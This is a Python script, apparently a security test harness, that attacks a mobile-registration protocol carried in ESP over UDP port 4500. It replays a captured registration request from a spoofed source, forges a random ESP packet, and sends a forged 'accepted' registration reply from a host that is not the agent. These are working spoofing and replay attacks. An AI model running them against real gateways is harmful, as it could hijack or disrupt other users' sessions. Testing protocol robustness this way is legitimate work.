#!/usr/bin/env python3
"""Attacks on registration, from an address that is not the mobile's.

replay: takes the mobile's first registration request (ESP in UDP/4500 on
        --spi, --length bytes of ESP) out of a capture and sends it again,
        unchanged, from --src: an old RREQ from another address.
forge:  sends an RREQ-sized ESP packet on --spi with a fresh sequence number
        and random contents from --src (someone without the keys).
reply:  from inside the gateway's network: a well-formed "accepted"
        registration reply (UDP to --dst port 434) from --src:--sport, an
        inner host or port that is not the gateway's registration agent.

Prints one JSON line.
"""
import argparse, json, os, socket, struct

from scapy.all import IP, UDP, Raw, raw, rdpcap


def send(src, dst, esp):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    pkt = IP(src=src, dst=dst) / UDP(sport=4500, dport=4500) / Raw(esp)
    s.sendto(raw(pkt), (dst, 0))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["replay", "forge", "reply"])
    ap.add_argument("--spi", type=lambda v: int(v, 0), default=0)
    ap.add_argument("--sport", type=int, default=434)
    ap.add_argument("--src", required=True)
    ap.add_argument("--dst", required=True)
    ap.add_argument("--pcap")
    ap.add_argument("--length", type=int, default=100)
    a = ap.parse_args()

    if a.mode == "reply":
        # Version 1, type 2 (RREP), code 0 (accepted), id; TLV 4 observed
        # outer header (UDP 203.0.113.10:4500 -> 198.51.100.69:4500), TLV 5 no
        # NAT, TLV 6 use UDP.
        body = struct.pack("!BBBBQ", 1, 2, 0, 0, 1)
        body += bytes([4, 13, 1, 203, 0, 113, 10, 198, 51, 100, 69]) + struct.pack("!HH", 4500, 4500)
        body += bytes([5, 1, 0, 6, 1, 1])
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((a.src, a.sport))
        s.sendto(body, (a.dst, 434))
        print(json.dumps({"reply_sent": True, "src": a.src, "sport": a.sport}))
        return
    if a.mode == "replay":
        for p in rdpcap(a.pcap):
            if UDP not in p or p[UDP].dport != 4500:
                continue
            esp = bytes(p[UDP].payload)
            if len(esp) == a.length and struct.unpack("!I", esp[:4])[0] == a.spi:
                send(a.src, a.dst, esp)
                seq = struct.unpack("!I", esp[4:8])[0]
                print(json.dumps({"replayed": True, "seq": seq, "orig_src": p[IP].src}))
                return
        print(json.dumps({"replayed": False}))
        return
    esp = struct.pack("!II", a.spi, 0x7FFF0000) + os.urandom(a.length - 8)
    send(a.src, a.dst, esp)
    print(json.dumps({"forged": True}))


if __name__ == "__main__":
    main()
